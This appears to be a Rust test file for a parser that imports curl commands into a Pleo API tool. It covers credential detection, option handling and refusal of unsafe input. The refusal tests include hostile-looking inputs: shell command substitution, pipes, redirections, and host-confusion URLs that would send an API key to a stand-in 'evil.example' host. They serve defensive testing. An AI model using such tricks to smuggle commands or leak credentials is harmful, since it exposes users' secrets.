@@ -1,0 +1,178 @@
+use super::*;
+
+fn import(text: &str) -> Result<Imported, CurlError> {
+    read(text, &Environments::pleo())
+}
+
+fn taken(text: &str) -> Imported {
+    let read = import(text);
+    assert!(read.is_ok(), "{text}: {read:?}");
+    read.unwrap()
+}
+
+/// The value of a credential, found out by asking.
+fn is(imported: &Imported, kind: CredentialKind, value: &str) -> bool {
+    let held = imported.credential.as_ref();
+    held.is_some_and(|own| own.kind() == kind && own.held().is_some_and(|secret| secret.is_text(value)))
+}
+
+#[test]
+fn what_is_copied_here_comes_back() {
+    let text = "curl 'https://external.pleo.io/v2/employees?limit=50&email=a%20b%26c' \\\n  --user \"$PLEOSCOPE_PRODUCTION_API_KEY:\" \\\n  --header 'Accept: application/json;charset=UTF-8'";
+    let own = taken(text);
+    assert_eq!((own.environment, own.draft.endpoint.method), (Environment::Production, Method::Get));
+    assert_eq!(own.draft.target(), "/v2/employees?email=a%20b%26c&limit=50");
+    assert_eq!((own.credential, own.remarks.len()), (None, 1));
+    assert!(own.remarks[0].contains("$PLEOSCOPE_PRODUCTION_API_KEY"));
+}
+
+#[test]
+fn browsers_copy_it_like_this() {
+    let chrome = "curl 'https://external.staging.pleo.io/v1/vendors' \\\n  -H 'accept: */*' \\\n  -H 'authorization: Bearer CNRYtoken' \\\n  -H 'content-type: application/json' \\\n  -b 'session=CNRYcookie; other=1' \\\n  -H 'sec-ch-ua: \"Chromium\";v=\"120\"' \\\n  -H 'priority: u=1, i' -H 'X-Request-Id: 7' \\\n  --data-raw $'{\"name\":\"It\\'s \\u00e9 \\ud83d\\ude00\\n\"}' \\\n  --compressed ;";
+    assert_eq!(import(chrome), Err(CurlError::Shell("a semicolon")));
+    let own = taken(chrome.trim_end_matches(" ;"));
+    assert_eq!(own.draft.endpoint.method, Method::Post);
+    assert_eq!(own.draft.body, "{\"name\":\"It's é 😀\n\"}");
+    assert!(is(&own, CredentialKind::OAuthAccessToken, "CNRYtoken"), "{own:?}");
+    assert_eq!(own.draft.own_headers, [("X-Request-Id".to_owned(), "7".to_owned())]);
+    assert_eq!(
+        own.remarks,
+        ["Cookies are left out: pleoscope keeps and sends none.", "Headers that are left out: priority, sec-ch-ua."]
+    );
+    assert!(!format!("{own:?}").contains("CNRY"), "{own:?}");
+    let firefox = "curl --compressed -X PUT 'https://external.staging.pleo.io/v1/vendors/a' -H 'User-Agent: x' -H 'Cookie: a=b' --data-raw '{}' \r\n";
+    assert_eq!(taken(firefox).draft.endpoint.method, Method::Put);
+    assert_eq!(import("curl ^\"https://external.pleo.io/^\" ^\r\n  -H ^\"a: b^\""), Err(CurlError::Cmd));
+    assert_eq!(import("curl https://external.pleo.io `\n -v"), Err(CurlError::PowerShell));
+}
+
+#[test]
+fn the_host_decides_environment_surface_and_kind() {
+    for (url, environment, kind, option) in [
+        (
+            "https://external.staging.pleo.io/v2/x",
+            Environment::Staging,
+            CredentialKind::StandaloneApiKey,
+            "-u 'value:'",
+        ),
+        ("https://external.pleo.io/v2/x", Environment::Production, CredentialKind::StandaloneApiKey, "-uvalue"),
+        (
+            "https://external.pleo.io/v2/x",
+            Environment::Production,
+            CredentialKind::OAuthAccessToken,
+            "--oauth2-bearer value",
+        ),
+        (
+            "https://openapi.staging.pleo.io/v1/x",
+            Environment::Staging,
+            CredentialKind::LegacyToken,
+            "-H 'Authorization: bearer value'",
+        ),
+        (
+            "https://external.pleo.io/v2/x",
+            Environment::Production,
+            CredentialKind::StandaloneApiKey,
+            "-H \"Authorization: Basic dmFsdWU6\"",
+        ),
+        ("https://value:@external.pleo.io/v2/x", Environment::Production, CredentialKind::StandaloneApiKey, ""),
+    ] {
+        let own = taken(&format!("curl {url} {option}"));
+        assert_eq!(own.environment, environment, "{url}");
+        assert!(is(&own, kind, "value"), "{url} {option}: {own:?}");
+        assert!(!own.draft.target().contains("value"));
+    }
+    let mut loopback = Environments::pleo();
+    loopback.override_with("staging=http://127.0.0.1:8080").unwrap();
+    assert_eq!(read("curl http://127.0.0.1:8080/v2/employees", &loopback).unwrap().environment, Environment::Staging);
+    assert!(matches!(read("curl https://external.staging.pleo.io/", &loopback), Err(CurlError::Foreign(_))));
+}
+
+#[test]
+fn options_mean_what_they_mean_to_curl() {
+    for (options, method, target, body) in [
+        ("", Method::Get, "/v9/x", ""),
+        ("-I", Method::Head, "/v9/x", ""),
+        ("-sSkL", Method::Get, "/v9/x", ""),
+        ("-XDELETE", Method::Delete, "/v9/x", ""),
+        ("-d a=1 -d b=2", Method::Post, "/v9/x", "a=1&b=2"),
+        ("-G -d a=1 --data-urlencode 'b=c d&'", Method::Get, "/v9/x?a=1&b=c%20d%26", ""),
+        ("--url-query 'a=b c'", Method::Get, "/v9/x?a=b%20c", ""),
+        ("--json '{\"a\":' --json '1}'", Method::Post, "/v9/x", "{\"a\":1}"),
+        ("--request PATCH --data-binary '{\"n\": 1.10}\n'", Method::Patch, "/v9/x", "{\"n\": 1.10}\n"),
+        ("--data-raw @file", Method::Post, "/v9/x", "@file"),
+        ("-d \"{\\\"a\\\": \\\"\\$b\\\\n\\\"}\"", Method::Post, "/v9/x", "{\"a\": \"$b\\n\"}"),
+        ("-o out -w '%{http_code}' --max-time 5 --no-location", Method::Get, "/v9/x", ""),
+    ] {
+        let own = taken(&format!("curl {options} https://external.staging.pleo.io/v9/x"));
+        assert_eq!(
+            (own.draft.endpoint.method, own.draft.target().as_str(), own.draft.body.as_str()),
+            (method, target, body),
+            "{options}"
+        );
+    }
+    let own = taken("curl -kLx http://p -o f https://external.staging.pleo.io/v9/x#part");
+    assert_eq!(
+        own.remarks,
+        [
+            "Without effect here: --insecure (certificates are always checked), --location (redirects are never followed), --proxy (the way to the host is pleoscope's own), --output (the answer is shown)."
+        ]
+    );
+    let own = taken("$ curl -d @body.json https://external.staging.pleo.io/v1/vendors # as told");
+    assert_eq!((own.file.as_deref(), own.draft.body.as_str()), (Some("body.json"), ""));
+    // The template of an operation is not what somebody has written.
+    assert_eq!(taken("curl -X POST https://external.staging.pleo.io/v1/vendors").draft.body, "");
+}
+
+#[test]
+fn what_cannot_be_meant_is_refused_and_says_nothing_of_a_secret() {
+    let host = "https://external.staging.pleo.io/v2/x";
+    for (text, word) in [
+        ("wget CNRY".to_owned(), "no curl command"),
+        (format!("curl {host}?token=CNRY&a=b"), "an ampersand"),
+        (format!("curl {host} | jq CNRY"), "a pipe"),
+        (format!("curl {host} > CNRY"), "a redirection"),
+        (format!("curl {host}\ncurl CNRY"), "another line"),
+        (format!("curl {host} -H 'Authorization: Bearer CNRY"), "never closed"),
+        (format!("curl {host} -H \"Authorization: Bearer $(cat CNRY)\""), "$(…)"),
+        (format!("curl {host} -H \"X-Own: $CNRY\""), "variable CNRY"),
+        (format!("curl {host} --nonsense CNRY"), "--nonsense"),
+        (format!("curl {host} \"--CNRY CNRY\""), "that is none"),
+        (format!("curl {host} -X"), "-X"),
+        (format!("curl {host} -X CNRY-CNRY"), "a method that is none"),
+        (format!("curl {host} CNRY"), "several addresses"),
+        (format!("curl -H Authorization: Bearer CNRY {host}"), "neither Bearer nor Basic"),
+        (format!("curl {host} -H 'Authorization: Token CNRY'"), "neither Bearer nor Basic"),
+        (format!("curl {host} -H 'CNRY CNRY'"), "without a colon"),
+        (format!("curl {host} -u CNRY:password"), "cannot hold a colon"),
+        (format!("curl {host} -u CNRY: --oauth2-bearer CNRY"), "two credentials"),
+        (format!("curl {host} -H 'Authorization: Bearer CNRY CNRY'"), "white space"),
+        (format!("curl {host} -F a=CNRY"), "form"),
+        (format!("curl {host} -T CNRY"), "upload-file"),
+        (format!("curl {host} -K CNRY"), "config"),
+        (format!("curl '{host}?a=[CNRY]'"), "brackets"),
+        (format!("curl '{host}?a=CNRY CNRY'"), "white space"),
+        ("curl external.pleo.io/v2/CNRY".to_owned(), "https://"),
+        ("curl http://external.pleo.io/v2/CNRY".to_owned(), "leads to external.pleo.io"),
+        ("curl https://api.pleo.io/CNRY".to_owned(), "leads to api.pleo.io"),
+        ("curl https://external.pleo.io@evil.example/ -u CNRY:".to_owned(), "leads to evil.example"),
+        ("curl https://external.pleo.io.evil.example/CNRY".to_owned(), "leads to external.pleo.io.evil.example"),
+        ("curl 'https://external.pleo.io\\@evil.example/CNRY'".to_owned(), "leads to evil.example"),
+        ("curl -u CNRY:".to_owned(), "no address"),
+    ] {
+        let read = import(&text);
+        assert!(read.is_err(), "{text}: {read:?}");
+        let sentence = read.unwrap_err().to_string();
+        assert!(sentence.contains(word), "{text}: {sentence}");
+        assert!(!sentence.contains("CNRY") || word.contains("CNRY"), "{text}: {sentence}");
+    }
+}
+
+#[test]
+fn only_a_command_of_that_name_is_one() {
+    for text in ["curl https://x", "  $ curl -v", "curl\\\n -v", "curl.exe x", "curl\thttps://x"] {
+        assert!(is_curl(text), "{text}");
+    }
+    for text in ["curly", "/v2/curl", "GET /v2/employees", "", "curl"] {
+        assert!(!is_curl(text), "{text}");
+    }
+}
